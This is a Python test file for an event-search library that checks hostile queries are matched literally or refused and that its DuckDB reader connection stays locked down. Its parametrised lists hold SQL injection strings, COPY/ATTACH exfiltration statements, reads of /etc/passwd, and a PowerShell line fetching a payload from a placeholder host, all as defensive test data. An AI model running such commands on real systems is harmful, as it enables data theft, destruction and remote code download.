"""Hostile search text is matched literally or refused, and touches nothing."""

from __future__ import annotations

from pathlib import Path

import duckdb
import pandas as pd
import pytest

from procanom.errors import QueryError
from procanom.io import read_events
from procanom.library import DatasetLibrary
from procanom.search import filter_events

HOSTILE = [
    "; DROP TABLE events",
    "x'; DROP TABLE events; --",
    'Name="a\'; DELETE FROM events; --"',
    "COPY events TO '{out}/stolen.csv'",
    "Name=cmd.exe; COPY events TO '{out}/stolen.parquet' (FORMAT parquet)",
    "ATTACH '{out}/other.duckdb' AS other",
    "INSTALL httpfs; LOAD httpfs",
    "read_csv('/etc/passwd')",
    "CommandLine=*read_csv('/etc/passwd')*",
    "Name=\"read_text('{out}/x')\"",
    "/etc/passwd",
    "C:\\Windows\\System32\\cmd.exe",
    "https://example.invalid/payload.ps1",
    'Path="\\\\\\\\server\\share\\*"',
    '\'Name\'="x\\" OR 1=1 --"',
    '"; SELECT * FROM duckdb_settings(); --"',
    "Name=*' OR '1'='1",
    "Name=\\",
    "\\' \\\" \\\\",
    "$$; PRAGMA database_list; $$",
    "(" * 5000 + "x" + ")" * 5000,
    "(" * 5000,
    "NOT " * 3000 + "x",
    "a OR " * 2000 + "b",
]

COMMAND_LINES = [
    "read_csv('/etc/passwd')",
    "cmd /c type C:\\Windows\\System32\\drivers\\etc\\hosts",
    "powershell -c iwr https://example.invalid/payload.ps1",
    "x'; DROP TABLE events; --",
    'echo "quoted" \\ back\\slash',
    "net use \\\\server\\share",
]


@pytest.fixture
def hostile_dataset(tmp_path):
    frame = pd.DataFrame(
        {
            "Name": ["cmd.exe", "powershell.exe", "net.exe"] * 2,
            "Path": ["C:\\Windows\\System32\\cmd.exe"] * 6,
            "CommandLine": COMMAND_LINES,
        }
    )
    path = tmp_path / "input" / "hostile.csv"
    path.parent.mkdir()
    frame.to_csv(path, index=False)
    library = DatasetLibrary(tmp_path / "data")
    info = library.ingest(path, "hostile")
    yield library, info.id, read_events(path).frame, tmp_path
    library.close()


def _snapshot(root: Path) -> dict[str, int]:
    return {
        str(p): p.stat().st_size
        for p in root.rglob("*")
        if p.is_file() and ".tmp" not in p.parts and not p.name.endswith(".wal")
    }


@pytest.mark.parametrize("template", HOSTILE)
def test_library_hostile_query_is_literal_or_refused(hostile_dataset, template):
    library, dataset_id, frame, root = hostile_dataset
    query = template.replace("{out}", str(root))
    before = _snapshot(root)

    try:
        expected = frame[filter_events(frame, query).to_numpy()]
    except QueryError as refused:
        with pytest.raises(QueryError) as caught:
            library.search(dataset_id, query)
        assert caught.value.position == refused.position
        assert 0 <= caught.value.position <= len(query)
    else:
        assert library.count(dataset_id, query) == len(expected)
        pd.testing.assert_frame_equal(library.search(dataset_id, query), expected)

    assert _snapshot(root) == before
    assert library.count(dataset_id) == len(frame)
    assert library.get(dataset_id).columns == list(frame.columns)


def test_library_hostile_text_inside_data_is_found_literally(hostile_dataset):
    library, dataset_id, _, _ = hostile_dataset

    assert library.count(dataset_id, "\"read_csv('/etc/passwd')\"") == 1
    assert library.count(dataset_id, '"x\'; DROP TABLE events; --"') == 1
    assert library.count(dataset_id, '"\\\\server\\share"') == 1


@pytest.mark.parametrize(
    "statement",
    [
        "COPY events TO '{out}/stolen.csv'",
        "ATTACH '{out}/other.duckdb' AS other",
        "SELECT * FROM read_csv('{out}/input/hostile.csv')",
        "INSTALL httpfs",
        "LOAD httpfs",
        "SET enable_external_access = true",
        "SET lock_configuration = false",
        "RESET enable_external_access",
        "CREATE TABLE evil AS SELECT 1",
        "DROP TABLE events",
    ],
)
def test_library_reader_connection_is_locked_down(hostile_dataset, statement):
    library, dataset_id, _, root = hostile_dataset
    library.count(dataset_id)
    path = library.folder / library._catalogue.get(dataset_id).file
    cursor = library._readers.cursor(path)
    before = _snapshot(root)

    with pytest.raises(duckdb.Error):
        cursor.execute(statement.replace("{out}", str(root)))

    assert _snapshot(root) == before
    assert cursor.execute(
        "SELECT current_setting('enable_external_access')"
    ).fetchone() == (False,)
